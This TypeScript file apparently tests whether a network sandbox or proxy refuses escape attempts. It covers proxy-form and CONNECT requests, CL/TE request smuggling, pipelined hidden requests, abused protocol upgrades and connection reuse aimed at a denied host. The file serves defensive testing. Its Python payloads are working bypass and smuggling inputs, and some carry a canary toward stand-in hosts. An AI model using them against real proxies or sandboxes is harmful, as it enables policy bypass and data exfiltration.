/** D: plain HTTP that is understood in two ways, reused, or turned into something else. [req: escape:network] */
import { createHash } from 'node:crypto';
import { type Attack, describeAttacks } from './attack.ts';
import type { Expected } from './expected.ts';
import { allowed, denied, farOf, opens, python, requested, settings, usual } from './far.ts';
import type { World } from './world.ts';

const refused = (call: string, times?: number): Expected => ({
  kind: 'refusal',
  call,
  destination: { host: allowed, ip: '127.0.0.1' },
  ...(times === undefined ? {} : { times }),
});
const at = (world: World): string => `${allowed}:${farOf(world).outside.ports.http}`;
/** Python that has `at`, and `http(…)` for what is sent to the allowed host as it is. */
const plain = (world: World): string => `
at = "${at(world)}"
def http(*parts):
    return say("${allowed}", ${farOf(world).outside.ports.http}, "".join(parts))
attempt("fine", http, f"GET /fine HTTP/1.1\\r\\nHost: {at}\\r\\nConnection: close\\r\\n\\r\\n")
evil = "GET /${world.canary} HTTP/1.1\\r\\nHost: ${denied}\\r\\n\\r\\n"
own = f"GET /${world.canary} HTTP/1.1\\r\\nHost: {at}\\r\\n\\r\\n"
`;

/** Agrees to whatever protocol is asked for. */
const agrees = (heard: string): string => {
  const key = /sec-websocket-key: *(\S+)/i.exec(heard)?.[1] ?? '';
  const accept = createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
  const protocol = /upgrade: *([^\r]+)\r/i.exec(heard)?.[1] ?? 'websocket';
  return `HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: ${protocol}\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`;
};

const attacks: readonly Attack[] = [
  {
    ...usual,
    id: 'D12',
    title: 'allowed host asked to be a proxy: absolute form, CONNECT, user and port in the target',
    won: requested,
    command: (world) =>
      python(`${plain(world)}
for target in ("http://${denied}/${world.canary}", "http://${denied}:80/${world.canary}", f"http://{at}@${denied}/${world.canary}", "https://${denied}/${world.canary}", f"https://{at}/${world.canary}", "//${denied}/${world.canary}"[1:] + "\\t", "${denied}/${world.canary}", "ftp://${denied}/${world.canary}"):
    for host in (at, "${denied}"):
        attempt(target, http, f"GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
for target in ("${denied}:443", at, "${denied}"):
    attempt("CONNECT", http, f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n", "GET /${world.canary} HTTP/1.1\\r\\n\\r\\n")
attempt("1.0", http, "GET http://${denied}/${world.canary} HTTP/1.0\\r\\n\\r\\n")`),
    record: () => [refused('host_mismatch'), refused('refused_upgrade', 3), refused('malformed_request')],
  },
  {
    ...usual,
    id: 'D13',
    title: 'requests with two ends: CL and TE, two lengths, bare line feeds, folded and spaced names',
    policy: 'requests',
    won: requested,
    command: (world) =>
      python(`${plain(world)}
head = f"POST /denied HTTP/1.1\\r\\nHost: {at}\\r\\n"
gets = f"GET /denied HTTP/1.1\\r\\nHost: {at}\\r\\n"
def chunked(fields, first=head):
    return http(first, fields, "\\r\\n", "0\\r\\n\\r\\n", evil, own)
for start in (head, gets):
    for fields in ("Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n", "Transfer-Encoding: chunked\\r\\nContent-Length: 400\\r\\n", "Content-Length: 0\\r\\nContent-Length: 300\\r\\n", "Content-Length: 5, 5\\r\\n", "Content-Length: +5\\r\\n", "Content-Length: 0x5\\r\\n", "Content-Length : 5\\r\\n", "Transfer-Encoding : chunked\\r\\n", "Transfer-Encoding: xchunked\\r\\n", "Transfer-Encoding: chunked, identity\\r\\n", "Transfer-Encoding: identity\\r\\nTransfer-Encoding: chunked\\r\\n", "Transfer-Encoding:\\x0bchunked\\r\\n", "X: y\\r\\n Transfer-Encoding: chunked\\r\\n", "Transfer-Encoding: chunked\\nContent-Length: 5\\r\\n", "Transfer_Encoding: chunked\\r\\nContent-Length: 5\\r\\n\\x00: x\\r\\n"):
        attempt(fields, chunked, fields, start)
for size in ("5;\\n", "0x5\\r\\n", " 5\\r\\n", "5 \\r\\n", "ffffffffffffffff1\\r\\n", "-1\\r\\n", "5\\n"):
    attempt(size, http, gets, "Transfer-Encoding: chunked\\r\\n\\r\\n", size, "hello\\r\\n0\\r\\n\\r\\n")
attempt("bare", http, f"GET /denied HTTP/1.1\\nHost: {at}\\n\\n")
attempt("split", http, f"GET /denied HTTP/1.1\\r\\nHost: {at}\\r\\nX: y\\rHost: ${denied}\\r\\n\\r\\n")`),
    record: () => [
      refused('malformed_request'),
      { kind: 'deny', action: 'http_request', destination: { host: allowed, path: '/denied' } },
    ],
  },
  {
    ...usual,
    id: 'D13',
    title: 'second request behind the first: for another host, denied, after the end',
    policy: 'requests',
    won: requested,
    command: (world) =>
      python(`${plain(world)}
fine = f"GET /second HTTP/1.1\\r\\nHost: {at}\\r\\n"
attempt("behind", http, fine, "\\r\\n", evil)
attempt("after the end", http, fine, "Connection: close\\r\\n\\r\\n", own)
attempt("in the body", http, f"POST /denied HTTP/1.1\\r\\nHost: {at}\\r\\nContent-Length: {len(evil)}\\r\\n\\r\\n", evil)
attempt("denied behind", http, fine, "\\r\\n", f"POST /payroll HTTP/1.1\\r\\nHost: {at}\\r\\nX: ${world.canary}\\r\\nContent-Length: 0\\r\\n\\r\\n")
attempt("expected", http, f"POST /denied HTTP/1.1\\r\\nHost: {at}\\r\\nExpect: 100-continue\\r\\nContent-Length: {len(own)}\\r\\n\\r\\n", own)
attempt("1.0", http, f"GET /second HTTP/1.0\\r\\nHost: {at}\\r\\n\\r\\n", own)`),
    record: () => [
      refused('host_mismatch', 1),
      {
        kind: 'deny',
        action: 'http_request',
        destination: { host: allowed, method: 'POST', path: '/payroll' },
        times: 1,
      },
      { kind: 'deny', action: 'http_request', destination: { host: allowed, path: '/denied' } },
    ],
  },
  {
    ...usual,
    id: 'D14',
    title: 'after an allowed 101: bytes that are no frames, other protocols',
    policy: 'requests',
    outside: opens({ says: agrees }),
    data: settings(),
    command: (world) => {
      const { port } = farOf(world).sink;
      return python(`${plain(world)}
def upgraded(protocol, then, more=""):
    with stream("${allowed}", ${port}) as s:
        s.settimeout(1)
        s.sendall(f"GET /up HTTP/1.1\\r\\nHost: ${allowed}:${port}\\r\\nConnection: Upgrade\\r\\nUpgrade: {protocol}\\r\\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\nSec-WebSocket-Version: 13\\r\\n{more}\\r\\n".encode())
        first = s.recv(4096)
        s.sendall(then)
        return first, all_of(s)
text = b"${world.canary}"
for then in (text, b"GET /" + text + b" HTTP/1.1\\r\\n\\r\\n", b"\\x81" + bytes([len(text)]) + text, b"\\xf1" + bytes([0x80 | len(text)]) + b"\\0\\0\\0\\0" + text, b"\\x83" + bytes([0x80 | len(text)]) + b"\\0\\0\\0\\0" + text, b"\\x89\\xff" + struct.pack(">Q", 1 << 63 | len(text)) + b"\\0\\0\\0\\0" + text):
    attempt(("websocket", then), upgraded, "websocket", then)
for protocol in ("h2c", "TLS/1.0", "connect-ip", "raw", "websocket, raw"):
    attempt(protocol, upgraded, protocol, text, "HTTP2-Settings: AAMAAABkAAQAAP__\\r\\n")
attempt("prior knowledge", say, "${allowed}", ${port}, PREFACE + request2(1, (":method", "GET"), (":scheme", "http"), (":path", "/${world.canary}"), (":authority", "${denied}")))`);
    },
    record: () => [refused('malformed_request'), refused('refused_upgrade')],
  },
  {
    ...usual,
    id: 'D15',
    title: 'connection of an allowed host, used again for another one',
    policy: 'requests',
    won: requested,
    command: (world) => {
      const { http, tls } = farOf(world).outside.ports;
      return python(`${plain(world)}
from http.client import HTTPConnection, HTTPSConnection
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
def again(connection, host):
    connection.request("GET", "/kept")
    first = connection.getresponse().read()
    connection.request("GET", "/${world.canary}", headers={"Host": host})
    return first, connection.getresponse().status
for host in ("${denied}", "127.0.0.66", "${allowed}.evil.test", "${allowed}:1"):
    attempt(host, again, HTTPConnection("${allowed}", ${http}, timeout=WAIT), host)
    attempt(host, again, HTTPSConnection("${allowed}", ${tls}, timeout=WAIT, context=context), host)`);
    },
    control: {
      within: (world) => farOf(world).outside.arrived.filter(({ url }) => url === '/kept').length === 8,
    },
    record: () => [refused('host_mismatch', 8)],
  },
];

describeAttacks('network-http', [], attacks);
